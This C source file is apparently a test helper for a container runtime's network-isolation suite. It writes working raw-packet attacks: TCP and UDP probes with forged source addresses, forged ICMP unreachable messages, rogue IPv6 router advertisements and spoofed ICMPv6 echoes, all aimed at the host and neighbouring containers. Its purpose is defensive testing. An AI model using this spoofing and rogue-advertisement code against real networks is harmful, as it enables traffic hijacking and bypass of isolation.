/* Network attacks a container's root (CAP_NET_RAW, docker's default) tries on the host and its
 * neighbours; built static by tests/e2e/test_network_walls.py and run from a read-only volume.
 *
 *   netattack IFACE DSTMAC DSTIP DPORT tcp|udp [SRCIP [SPORT]]
 *       one TCP handshake (then an HTTP GET) or one UDP datagram ("minirun-probe"), built by
 *       hand and sent as Ethernet frames to DSTMAC, past the kernel's routing (which keeps
 *       127.0.0.0/8 on lo); SRCIP forges the source ("-": IFACE's own), SPORT fixes the source
 *       port (else a random one). Prints what came back: "synack", "rst",
 *       "data BYTES", "udp BYTES" or "timeout".
 *   netattack IFACE DSTMAC DSTIP DPORT unreach - TO TPORT
 *       one ICMP port unreachable from IFACE's address to DSTIP, quoting a UDP datagram from
 *       DSTIP:DPORT to TO:TPORT (as a host on the way to TO sends it back). Prints "sent".
 *   netattack ra IFACE [DSTMAC]
 *       one IPv6 router advertisement (default router, high preference, lifetime 1800 s, the
 *       autonomous prefix 2001:db8:bad::/64) from IFACE's link-local address to ff02::1, sent
 *       to ff02::1's MAC or to DSTMAC.
 *   netattack ping6 IFACE DSTMAC SRC6 DST6
 *       one ICMPv6 echo request from SRC6 (any address) to DST6, sent as a frame to DSTMAC (the
 *       bridge's: as to a router). Prints "sent".
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int fd, ifindex;
static unsigned char mymac[6], dstmac[6];
static uint32_t src, dst;
static uint16_t sport, dport;

static uint16_t csum(const void *data, size_t len, uint32_t sum) {
    const uint8_t *p = data;
    for (; len > 1; len -= 2, p += 2) sum += (p[0] << 8) | p[1];
    if (len) sum += p[0] << 8;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons(~sum & 0xffff);
}

static uint32_t pseudo(uint8_t proto, size_t len) {
    uint32_t s = 0, a = ntohl(src), b = ntohl(dst);
    s += (a >> 16) + (a & 0xffff) + (b >> 16) + (b & 0xffff) + proto + len;
    return s;
}

static void send_ip(uint8_t proto, const uint8_t *l4, size_t l4len) {
    uint8_t frame[1514];
    memcpy(frame, dstmac, 6);
    memcpy(frame + 6, mymac, 6);
    frame[12] = 0x08; frame[13] = 0x00;
    uint8_t *ip = frame + 14;
    memset(ip, 0, 20);
    ip[0] = 0x45; ip[8] = 64; ip[9] = proto;
    uint16_t tot = htons(20 + l4len); memcpy(ip + 2, &tot, 2);
    uint16_t id = htons(rand() & 0xffff); memcpy(ip + 4, &id, 2);
    memcpy(ip + 12, &src, 4); memcpy(ip + 16, &dst, 4);
    uint16_t c = csum(ip, 20, 0); memcpy(ip + 10, &c, 2);
    memcpy(ip + 20, l4, l4len);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, dstmac, 6);
    if (sendto(fd, frame, 34 + l4len, 0, (struct sockaddr *)&to, sizeof to) < 0) { perror("sendto"); exit(2); }
}

static void send_tcp(uint32_t seq, uint32_t ack, uint8_t flags, const char *data, size_t dlen) {
    uint8_t t[1400];
    memset(t, 0, 20);
    uint16_t v = htons(sport); memcpy(t, &v, 2);
    v = htons(dport); memcpy(t + 2, &v, 2);
    uint32_t w = htonl(seq); memcpy(t + 4, &w, 4);
    w = htonl(ack); memcpy(t + 8, &w, 4);
    t[12] = 5 << 4; t[13] = flags;
    v = htons(64000); memcpy(t + 14, &v, 2);
    memcpy(t + 20, data, dlen);
    uint16_t c = csum(t, 20 + dlen, pseudo(6, 20 + dlen)); memcpy(t + 16, &c, 2);
    send_ip(6, t, 20 + dlen);
}

/* The next IPv4 packet from dst:dport to our sport (proto), into buf; its L4 offset, or -1 on timeout. */
static int receive(uint8_t proto, uint8_t *buf, int *len, int ms) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        int left = ms - (int)((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000);
        if (left <= 0) return -1;
        struct pollfd p = {.fd = fd, .events = POLLIN};
        if (poll(&p, 1, left) <= 0) continue;
        int n = recv(fd, buf, 2048, 0);
        if (n < 34) continue;
        uint8_t *ip = buf + 14;
        if (buf[12] != 0x08 || buf[13] != 0 || ip[9] != proto) continue;
        if (memcmp(ip + 12, &dst, 4) != 0) continue;
        int hl = (ip[0] & 15) * 4;
        uint8_t *l4 = ip + hl;
        if (((l4[0] << 8) | l4[1]) != dport || ((l4[2] << 8) | l4[3]) != sport) continue;
        *len = n;
        return 14 + hl;
    }
}

static int advertise(const char *iface, const char *to);
static int echo6(char **argv);
static int unreach(const char *to, int tport);

int main(int argc, char **argv) {
    if ((argc == 3 || argc == 4) && strcmp(argv[1], "ra") == 0) return advertise(argv[2], argc == 4 ? argv[3] : NULL);
    if (argc == 6 && strcmp(argv[1], "ping6") == 0) return echo6(argv + 2);
    if (argc < 6) { fprintf(stderr, "usage: netattack IFACE DSTMAC DSTIP DPORT tcp|udp [SRCIP [SPORT]] | ra IFACE [DSTMAC]\n"); return 2; }
    srand(getpid() ^ time(NULL));
    fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (fd < 0) { printf("socket %d\n", errno); return 3; }
    struct ifreq ifr = {0};
    strncpy(ifr.ifr_name, argv[1], IFNAMSIZ - 1);
    if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) { perror("ifindex"); return 2; }
    ifindex = ifr.ifr_ifindex;
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) { perror("hwaddr"); return 2; }
    memcpy(mymac, ifr.ifr_hwaddr.sa_data, 6);
    if (argc > 6 && strcmp(argv[6], "-") != 0) inet_pton(AF_INET, argv[6], &src);
    else {
        ifr.ifr_addr.sa_family = AF_INET;
        if (ioctl(fd, SIOCGIFADDR, &ifr) < 0) { perror("ifaddr"); return 2; }
        src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
    }
    struct sockaddr_ll me = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = ifindex};
    bind(fd, (struct sockaddr *)&me, sizeof me);
    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dstmac[0], &dstmac[1], &dstmac[2], &dstmac[3], &dstmac[4], &dstmac[5]);
    inet_pton(AF_INET, argv[3], &dst);
    dport = atoi(argv[4]);
    if (argc == 9 && strcmp(argv[5], "unreach") == 0) return unreach(argv[7], atoi(argv[8]));
    sport = argc > 7 ? atoi(argv[7]) : 20000 + rand() % 30000;
    uint8_t buf[2048];
    int len, off;
    if (strcmp(argv[5], "udp") == 0) {
        const char *msg = "minirun-probe";
        uint8_t u[64];
        uint16_t v = htons(sport); memcpy(u, &v, 2);
        v = htons(dport); memcpy(u + 2, &v, 2);
        v = htons(8 + strlen(msg)); memcpy(u + 4, &v, 2);
        memset(u + 6, 0, 2);
        memcpy(u + 8, msg, strlen(msg));
        uint16_t c = csum(u, 8 + strlen(msg), pseudo(17, 8 + strlen(msg))); memcpy(u + 6, &c, 2);
        send_ip(17, u, 8 + strlen(msg));
        if ((off = receive(17, buf, &len, 2000)) < 0) { printf("timeout\n"); return 1; }
        printf("udp %.*s\n", len - off - 8, buf + off + 8);
        return 0;
    }
    uint32_t iss = rand();
    send_tcp(iss, 0, 0x02, "", 0);
    if ((off = receive(6, buf, &len, 2000)) < 0) { printf("timeout\n"); return 1; }
    uint8_t flags = buf[off + 13];
    if (flags & 0x04) { printf("rst\n"); return 1; }
    if ((flags & 0x12) != 0x12) { printf("flags %x\n", flags); return 1; }
    printf("synack\n");
    fflush(stdout);
    uint32_t irs = (buf[off + 4] << 24) | (buf[off + 5] << 16) | (buf[off + 6] << 8) | buf[off + 7];
    const char *req = "GET / HTTP/1.0\r\n\r\n";
    send_tcp(iss + 1, irs + 1, 0x18, req, strlen(req));
    uint32_t next = irs + 1;
    while ((off = receive(6, buf, &len, 2000)) >= 0) {
        int hl = (buf[off + 12] >> 4) * 4;
        int total = (buf[16] << 8) | buf[17];
        int dlen = total - (off - 14) - hl;
        uint32_t seq = (buf[off + 4] << 24) | (buf[off + 5] << 16) | (buf[off + 6] << 8) | buf[off + 7];
        if (dlen > 0 && seq == next) {
            printf("data %.*s\n", dlen, buf + off + hl);
            fflush(stdout);
            next += dlen;
        }
        if (buf[off + 13] & 0x01) next += 1;
        send_tcp(iss + 1 + strlen(req), next, 0x10, "", 0);
        if (buf[off + 13] & 0x05) break;
    }
    return 0;
}

/* The ICMP error (see the top): dst's datagram dst:dport -> TO:TPORT quoted, its header and 8 bytes. */
static int unreach(const char *to, int tport) {
    uint8_t m[8 + 28] = {3, 3};
    uint8_t *in = m + 8;
    in[0] = 0x45; in[3] = 28 + 13; in[8] = 64; in[9] = 17;
    memcpy(in + 12, &dst, 4);
    if (inet_pton(AF_INET, to, in + 16) != 1) return 2;
    uint16_t c = csum(in, 20, 0); memcpy(in + 10, &c, 2);
    uint16_t v = htons(dport); memcpy(in + 20, &v, 2);
    v = htons(tport); memcpy(in + 22, &v, 2);
    v = htons(8 + 13); memcpy(in + 24, &v, 2);
    c = csum(m, sizeof m, 0); memcpy(m + 2, &c, 2);
    send_ip(1, m, sizeof m);
    printf("sent\n");
    return 0;
}

/* One IPv6 packet (ICMPv6 of `len` bytes at f + 54, its checksum filled in here) from IFACE to dmac. */
static int send6(const char *iface, const uint8_t *dmac, uint8_t *f, int len) {
    int sock6 = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IPV6));
    if (sock6 < 0) { perror("socket"); return 3; }
    struct ifreq ifr = {0};
    strncpy(ifr.ifr_name, iface, IFNAMSIZ - 1);
    if (ioctl(sock6, SIOCGIFINDEX, &ifr) < 0) return 2;
    int index6 = ifr.ifr_ifindex;
    uint8_t *ip = f + 14, *icmp = ip + 40;
    memcpy(f, dmac, 6); f[12] = 0x86; f[13] = 0xdd;
    ip[0] = 0x60; ip[4] = len >> 8; ip[5] = len & 255; ip[6] = 58;
    uint32_t sum = 0;
    for (int i = 0; i < 32; i += 2) sum += (ip[8 + i] << 8) | ip[9 + i];
    sum += len + 58;
    for (int i = 0; i < len; i += 2) sum += (icmp[i] << 8) | icmp[i + 1];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    sum = ~sum & 0xffff;
    icmp[2] = sum >> 8; icmp[3] = sum & 255;
    struct sockaddr_ll to6 = {.sll_family = AF_PACKET, .sll_ifindex = index6, .sll_halen = 6};
    memcpy(to6.sll_addr, dmac, 6);
    if (sendto(sock6, f, 14 + 40 + len, 0, (struct sockaddr *)&to6, sizeof to6) < 0) { perror("sendto"); return 1; }
    printf("sent\n");
    return 0;
}

static int mac_of(const char *iface, uint8_t *mac) {
    int sock = socket(AF_INET, SOCK_DGRAM, 0);
    struct ifreq ifr = {0};
    strncpy(ifr.ifr_name, iface, IFNAMSIZ - 1);
    int failed = sock < 0 || ioctl(sock, SIOCGIFHWADDR, &ifr) < 0;
    if (!failed) memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
    if (sock >= 0) close(sock);
    return failed ? -1 : 0;
}

/* One echo request (see the top): IFACE DSTMAC SRC6 DST6. */
static int echo6(char **argv) {
    uint8_t f[200] = {0}, dmac[6];
    if (mac_of(argv[0], f + 6) < 0) return 2;
    sscanf(argv[1], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dmac[0], &dmac[1], &dmac[2], &dmac[3], &dmac[4], &dmac[5]);
    uint8_t *ip = f + 14, *icmp = ip + 40;
    if (inet_pton(AF_INET6, argv[2], ip + 8) != 1 || inet_pton(AF_INET6, argv[3], ip + 24) != 1) return 2;
    ip[7] = 64;
    icmp[0] = 128; icmp[4] = 0x12; icmp[5] = 0x34; icmp[7] = 1;
    memcpy(icmp + 8, "minirun-probe", 14);
    return send6(argv[0], dmac, f, 8 + 14);
}

/* One router advertisement to ff02::1 (see the top). */
static int advertise(const char *iface, const char *to) {
    uint8_t f[200] = {0};
    uint8_t *mac = f + 6;
    if (mac_of(iface, mac) < 0) return 2;
    uint8_t dmac[6] = {0x33, 0x33, 0, 0, 0, 1};
    if (to) sscanf(to, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dmac[0], &dmac[1], &dmac[2], &dmac[3], &dmac[4], &dmac[5]);
    uint8_t *ip = f + 14, *icmp = ip + 40;
    uint8_t src6[16] = {0xfe, 0x80}, dst6[16] = {0xff, 0x02};
    dst6[15] = 1;
    src6[8] = mac[0] ^ 2; src6[9] = mac[1]; src6[10] = mac[2]; src6[11] = 0xff; src6[12] = 0xfe;
    src6[13] = mac[3]; src6[14] = mac[4]; src6[15] = mac[5];
    int len = 16 + 32 + 8;
    ip[7] = 255;
    memcpy(ip + 8, src6, 16); memcpy(ip + 24, dst6, 16);
    icmp[0] = 134; icmp[4] = 64; icmp[5] = 0x08 /* prf high */; icmp[6] = 0x07; icmp[7] = 0x08; /* 1800 s */
    uint8_t *o = icmp + 16;  /* prefix information */
    o[0] = 3; o[1] = 4; o[2] = 64; o[3] = 0xc0;
    o[4] = 0; o[5] = 0; o[6] = 0x0e; o[7] = 0x10; o[8] = 0; o[9] = 0; o[10] = 0x0e; o[11] = 0x10;
    uint8_t prefix[16] = {0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad};
    memcpy(o + 16, prefix, 16);
    o += 32; o[0] = 1; o[1] = 1; memcpy(o + 2, mac, 6);  /* source link-layer address */
    return send6(iface, dmac, f, len);
}
